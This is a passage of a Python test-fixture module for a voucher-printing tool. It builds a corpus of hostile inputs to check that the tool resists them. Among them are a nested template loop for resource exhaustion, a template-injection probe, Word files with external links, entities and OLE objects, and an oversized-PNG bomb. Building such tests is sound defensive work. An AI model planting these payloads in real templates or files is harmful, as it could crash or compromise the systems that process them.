        cases.append(("a read-only parent", folder / "read-only" / "out"))
    return cases


# Sources given to `supersede` that are neither a roster that exists nor a certificate number.
MISTYPED_SOURCES = ["国家证书名册.xlsx", "国家证书名册.xls", "名册/2009-06.csv", "0935011001500001.xlsx",
                    "093501100150000", "09350110015000012", "0935-0110-0150-0001", "国家证书名册",
                    "NO.0935011001500001", "0935011001500001 0935011001500002", ""]


def foreign_files_for_report(folder: Path) -> dict[str, Path]:
    """Files `report -o` must not replace: the clerk's roster, a text file, a document, another fjvoucher
    workbook (a register is not a monthly report), a link to a roster."""
    from fjvoucher.sheets.register import write_register

    folder.mkdir(parents=True, exist_ok=True)
    made = {"roster": roster(folder, rows(2), "名册.xlsx"), "text": folder / "notes.txt",
            "docx": folder / "letter.docx", "register": write_register(folder / "发放登记表.xlsx", "t", []),
            "link": folder / "link.xlsx"}
    made["text"].write_text("请勿覆盖\n", encoding="utf-8")
    shutil.copy(default_master(), made["docx"])
    made["link"].symlink_to(made["roster"])
    return made


# The clerk's own files where a merge of samples/roster.xlsx writes (relative to the output folder),
# with the --format that writes there.
FOREIGN_OUTPUTS = [("batches/batch-001.docx", "docx"), ("batches/batch-001.pdf", "pdf"),
                   ("batches/BATCH-001.DOCX", "docx"),  # Windows and macOS take it for the same file
                   ("vouchers/{stem}.docx", "docx"), ("vouchers/{stem}.pdf", "pdf")]


def roster_with_stations(folder: Path) -> Path:
    """A valid roster with a 鉴定站 column for --group-by: two stations, 鼓楼站 and 仓山站."""
    data = rows(4, seed=71)
    for row, station in zip(data, ["鼓楼站", "仓山站", "鼓楼站", "仓山站"], strict=True):
        row["station"] = station
    return roster(folder, data, "stations.xlsx", extra_headers={"鉴定站": "station"})


def place_foreign_file(outdir: Path, relative: str) -> Path:
    """Put a file the clerk wrote at `relative` in `outdir`."""
    path = outdir / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"the clerk's own file\n")
    return path


# --- voucher NOs -------------------------------------------------------------------------------------

# --no-pattern values whose NOs verify would read as something else: refused before anything is issued.
BAD_NO_PATTERNS = ["NO{year}{serial:05d}", "NO.{center_code}-{serial}", "no{serial:06d}", "No：{serial}",
                   "{center_code} {year} {serial}", "{center_code}-{year}-{serial}\u3000", "{center_code}\t{serial}",
                   "３５{year}{serial}", "{center_code}-{year}-{serial:x}", "{center_code}-{year:x}-{serial}",
                   "fj-{serial:06d}", "{center_code}\u200b{serial}", "{center_code}-{serial}\n",
                   "ＦＪ{serial}"]
# Patterns whose every NO verifies as printed.
GOOD_NO_PATTERNS = ["{center_code}-{year}-{serial:06d}", "{center_code}{year}{serial:06d}", "FJ-{year}-{serial:X}",
                    "{year}/{center_code}/{serial}", "N{serial:08d}", "{center_code}.{year}.{serial:04d}",
                    "{center_code}-{serial:_>8}"]
# --center-code values: 4 to 6 ASCII digits only.
BAD_CENTER_CODES = ["35 01", "３５０１", "35-01", "350", "3501234", "FZ01", "3501\n"]
# A roster's own NOs that verify would read differently: each an error naming the cell.
BAD_ROSTER_NOS = ["no.3501-2009-000101", "NO3501-2009-000102", "NO：3501-2009-000103", "No.3501-2009-000104",
                  "3501-abc-000105", "ｎｏ.3501-2009-000106"]
# A roster's own NOs in a form the roster reader folds (full-width, spaces): kept folded, and found so.
FOLDED_ROSTER_NOS = [("３５０１-２００９-０００２０１", "3501-2009-000201"), ("3501 2009 000202", "35012009000202"),
                     ("3501-2009-000203\u3000", "3501-2009-000203")]


def roster_with_nos(folder: Path, nos: list[str], name: str = "nos.xlsx") -> tuple[Path, list[dict]]:
    """A valid roster whose rows carry `nos` as their own 凭证编号."""
    data = rows(len(nos), seed=67)
    for row, number in zip(data, nos, strict=True):
        row["voucher_no"] = number
    return roster(folder, data, name), data


# --- the whole corpus, for trying by hand --------------------------------------------------------

def write_all(folder: Path) -> list[Path]:
    """Write every case into `folder`; return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    made = [master_linked_picture(folder), master_attached_template(folder), master_entity(folder),
            master_include_field(folder), master_ole_object(folder), master_malformed(folder),
            master_with_tags(folder, "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
                             "{% endfor %}", "loop.docx"),
            master_with_tags(folder, "{{ {}.update }}", "address.docx"), master_mergefield_malformed(folder),
            roster_far_cell(folder), roster_huge_string(folder, 64), roster_hidden_first_sheet(folder),
            truncated_xlsx(folder), photo_rotated(folder / "rotated.jpg"), photo_truncated(folder / "half.jpg"),
            png_claiming(folder / "bomb.png", 100_000, 100_000)]
    spoiled = rows(4)
    spoiled[0]["certificate_no"] = "٠٩٣٥٠١١٠٠١٥٠٠٠٠١"  # Arabic-Indic digits
    spoiled[1]["occupation"] = "车工\n（三级）"
    spoiled[2]["issue_date"] = dt.date(1950, 1, 1)
    made.append(roster(folder, spoiled, "spoiled.xlsx"))
    made.append(csv_file(folder, rows(3), "unicode.txt", "utf-16", delimiter="\t"))
    made += round_3_files(folder)
    return made


def round_3_files(folder: Path) -> list[Path]:
    """Write the files of issue 19's classes 1-5, 12, 13 and 19 into `folder`."""
    makers = [master_external_by_character_reference, master_external_without_mode, master_external_other_prefix,
              master_object_other_prefix, master_field_by_character_reference, master_field_split_over_runs,
              master_field_built_by_field, master_vml_image_source, master_svg_linking_a_file, master_declared_latin1,
              master_duplicate_part, master_alt_chunk, master_sub_document, master_embedded_package,
              master_with_leftovers, master_footnote_placeholder, master_endnote_mergefield,
              master_comment_placeholder, master_header_other_name, master_amplifying_filter,
              master_amplifying_condition, master_many_growing_placeholders, roster_invisible_names,
              roster_legacy_duplicates, roster_formula_errors_xlsx, roster_formula_errors_csv,
              roster_formula_errors_ods]
    return [make(folder) for make in makers]


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    if target.exists():
        shutil.rmtree(target)
    for made in write_all(target):
        print(made)
